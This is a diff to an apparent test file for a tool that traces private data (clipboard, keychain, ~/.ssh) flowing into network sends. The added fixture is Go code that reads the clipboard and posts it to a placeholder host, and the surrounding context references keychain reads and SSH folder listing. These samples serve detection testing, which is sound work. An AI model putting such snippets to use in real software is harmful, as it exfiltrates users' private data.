@@ -147,6 +147,11 @@ describe("sources of private data", () => {
     expect(sources(of(r, "send")[0]!.data)[0]).toMatch(/^keychain:security find-generic-password/);
   });
 
+  it("taints the output of a program picked from a list, as any one of them may run", () => {
+    const r = run(main('readers := [][]string{{"clip-helper", "-o"}, {"pbpaste"}}\nfor _, rd := range readers {\n  if out, err := exec.Command(rd[0], rd[1:]...).Output(); err == nil {\n    http.Post("https://n.invalid", "text/plain", bytes.NewReader(out))\n  }\n}'));
+    expect(sources(of(r, "send")[0]!.data).map((s) => s.split(":")[0])).toEqual(["clipboard"]);
+  });
+
   it("lists private folders read by ReadDir and Walk", () => {
     const r = run(main('os.ReadDir(filepath.Join(os.Getenv("HOME"), ".ssh"))'));
     expect(of(r, "read")[0]?.detail).toBe("~/.ssh (listing)");
